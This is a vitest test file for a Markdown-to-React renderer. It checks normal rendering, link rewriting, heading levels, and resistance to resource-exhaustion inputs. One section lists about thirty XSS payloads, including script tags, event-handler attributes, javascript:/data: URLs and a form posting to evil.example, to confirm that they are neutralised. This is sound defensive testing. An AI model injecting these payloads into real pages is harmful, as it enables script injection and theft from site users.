import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { type MarkdownOptions, markdownToReact } from "./to-react";

const html = (markdown: string, options?: MarkdownOptions) =>
  renderToStaticMarkup(markdownToReact(markdown, options));

describe("ordinary Markdown", () => {
  it.each([
    ["*one* thing", "<p><em>one</em> thing</p>"],
    ["- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"],
    ["one\ntwo", "<p>one<br/>\ntwo</p>"],
    ["> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"],
    ["a ~~b~~", "<p>a <del>b</del></p>"],
    [
      "- [x] done",
      '<ul class="contains-task-list">\n<li class="task-list-item">☑ done</li>\n</ul>',
    ],
    ["I <3 this night", "<p>I &lt;3 this night</p>"],
    ["a <b>bold</b> claim", "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>"],
    ["seen[^1]\n\n[^1]: there", "<p>seen[1]</p>\n<p>[1]</p>\n<p>there</p>"],
  ])("%j is %s", (markdown, shown) => expect(html(markdown)).toBe(shown));

  const rel = 'rel="ugc nofollow noopener"';
  it.each([
    ["[a](https://example.ca)", `<a href="https://example.ca" ${rel}>a</a>`],
    ["www.example.ca", `<a href="http://www.example.ca" ${rel}>www.example.ca</a>`],
    ["zoe@example.ca", `<a href="mailto:zoe@example.ca" ${rel}>zoe@example.ca</a>`],
    ["![a view](https://example.ca/a.png)", `<a href="https://example.ca/a.png" ${rel}>a view</a>`],
    [
      "![](https://example.ca/a.png)",
      `<a href="https://example.ca/a.png" ${rel}>https://example.ca/a.png</a>`,
    ],
    [
      "[![a](https://example.ca/a.png)](https://example.ca)",
      `<a href="https://example.ca" ${rel}>a</a>`,
    ],
    ['[a](https://example.ca "title")', `<a href="https://example.ca" ${rel}>a</a>`],
  ])("%s becomes a plain link and loads nothing", (markdown, link) =>
    expect(html(markdown)).toBe(`<p>${link}</p>`),
  );

  it.each([
    ["# a\n## b", 2, "h2 h3"],
    ["### a\n# b\n## c", 2, "h2 h2 h3"],
    ["# a\n###### b", 3, "h3 h4"],
    ["# a\n## b\n### c", 5, "h5 h6 h6"],
    ["# a\n\nb", null, "p p"],
  ])("the headings of %j, from level %s, are %s", (markdown, topHeading, tags) => {
    const found = html(markdown, { topHeading }).matchAll(/<(h\d|p)>/g);
    expect([...found].map((match) => match[1]).join(" ")).toBe(tags);
  });
});

describe("malicious Markdown", () => {
  it("cannot multiply one URL into megabytes", () => {
    const many = `${"[a] ".repeat(80)}\n\n`.repeat(50);
    const short = html(`${many}[a]: https://example.ca/${"b".repeat(1900)}`);
    expect(short.match(/<a /g)).toHaveLength(200);
    expect(html(`${many}[a]: https://example.ca/${"b".repeat(4000)}`)).not.toContain("<a ");
  });

  const attempts = [
    "<script>alert(1)</script>",
    "text <script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=code></form>",
    "<a href='javascript:alert(1)' onclick='alert(1)'>a</a>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](vbscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![a" onerror="alert(1)](https://example.ca/a.png)',
    '[a](https://example.ca "\' onmouseover=alert(1)")',
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)<</script>/script>",
    "> - <div><script>alert(1)</script></div>",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    'a<https://example.ca/"onclick=alert(1)>',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <input autofocus onfocus=alert(1)>",
  ];

  const TAGS = /^(p|a|em|strong|code|pre|ul|ol|li|blockquote|br|table|thead|tbody|tr|th|td)$/;
  const ATTRIBUTES = /^(href|rel|class|style)$/;

  it.each(attempts)("%j becomes text and harmless links", (markdown) => {
    const shown = html(markdown);
    for (const [, tag, attributes] of shown.matchAll(
      /<([a-z0-9]+)((?:\s+[a-z-]+="[^"]*")*)\s*\/?>/gi,
    )) {
      expect(tag).toMatch(TAGS);
      for (const [, name, value] of (attributes ?? "").matchAll(/([a-z-]+)="([^"]*)"/gi)) {
        expect(name).toMatch(ATTRIBUTES);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
      }
    }
    // Anything the loop above did not match must not be a tag.
    const rest = shown.replace(/<\/?[a-z0-9]+(\s+[a-z-]+="[^"]*")*\s*\/?>/gi, "");
    expect(rest).not.toContain("<");
  });

  it("keeps the text of a link without a URL", () => {
    expect(html("[a](javascript:alert(1)) b")).toBe("<p>a b</p>");
  });

  it("drops HTML comments", () => {
    expect(html("seen <!-- hidden --> seen")).toBe("<p>seen  seen</p>");
    expect(html("<!-- hidden\n\nand more -->")).toBe("");
  });

  const long = 20_000;
  it.each([
    ["quotes", ">".repeat(long)],
    ["lists", "- ".repeat(long / 2)],
    ["numbered lists", "1. ".repeat(long / 3)],
    ["brackets", "[".repeat(long)],
    ["emphasis", "*a _".repeat(long / 4)],
    ["pictures", "![".repeat(long / 2)],
    ["tables", "|".repeat(long)],
    ["cells", `${"|a".repeat(1000)}\n${"|-".repeat(1000)}\n${"|b\n".repeat(3700)}`],
    ["headings", "a\n=\n".repeat(long / 4)],
    ["one-line quotes", "> a\n\n".repeat(long / 5)],
    ["indents", Array.from({ length: 190 }, (_, at) => `${" ".repeat(at)}- a`).join("\n")],
    ["quoted lines", `${">".repeat(99)} a\n`.repeat(long / 102)],
  ])("renders deeply nested %s quickly", (_, markdown) => {
    const startedAt = performance.now();
    expect(html(`${markdown}x`)).toContain("x");
    expect(performance.now() - startedAt).toBeLessThan(3000);
  });

  it("shows thousands of lines and oversized tables as plain text", () => {
    expect(html("# a\n".repeat(1001))).toMatch(/^<p># a<br\/>/);
    expect(html("# a\n".repeat(500))).toContain("<h2>a</h2>");
    const wide = `${"|a".repeat(40)}\n${"|-".repeat(40)}\n`;
    expect(html(`${wide}${"|b\n".repeat(20)}`)).toContain("<table>");
    expect(html(`${wide}${"|b\n".repeat(40)}`)).not.toContain("<table>");
  });

  it.each(["www.a_", "_*", "`a``b ", "2. www.a_\n", "> _*\n"])(
    "shows a paragraph of nothing but %j as plain text, which parsing would take seconds for",
    (marks) => {
      const text = marks.repeat(Math.floor(20_000 / marks.length)).trim();
      expect(html(text)).not.toMatch(/<(a|em|strong|code|ol|blockquote)\b/);
    },
  );

  it("leaves marks alone that are spread over a long text", () => {
    const text = "A **bold** word, and a link to www.example.ca.\n\n".repeat(200);
    expect(html(text).match(/<strong>/g)).toHaveLength(200);
    expect(html(text.replaceAll("\n\n", "\n- ")).match(/<a /g)).toHaveLength(200);
  });

  it.each([
    ["lists", Array.from({ length: 60 }, (_, at) => `${"  ".repeat(at)}- a`).join("\n")],
    ["quotes", Array.from({ length: 60 }, (_, at) => `${">".repeat(at)} a`).join("\n")],
    ["emphasis", `${"*a _b ".repeat(50)}c${"_ *".repeat(50)}`],
  ])("limits the depth of %s", (_, markdown) => {
    let [depth, deepest] = [0, 0];
    for (const [, closes] of html(markdown).matchAll(/<(\/?)(?:ul|li|p|blockquote|em)\b[^>]*>/g)) {
      depth += closes ? -1 : 1;
      deepest = Math.max(deepest, depth);
    }
    expect(depth).toBe(0);
    expect(deepest).toBeGreaterThan(5);
    expect(deepest).toBeLessThan(20);
  });
});
